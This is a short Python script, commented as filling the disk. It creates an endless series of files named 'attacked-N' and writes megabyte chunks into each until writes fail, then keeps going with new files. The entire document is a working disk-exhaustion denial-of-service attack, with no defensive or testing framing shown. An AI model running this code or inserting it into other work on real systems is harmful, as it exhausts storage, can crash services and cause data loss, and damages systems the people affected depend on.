# Fills the disk, in one file and then in many.
import itertools

for number in itertools.count():
    try:
        with open(f"attacked-{number}", "wb") as file:
            while True:
                file.write(b"x" * (1 << 20))
    except OSError:
        continue
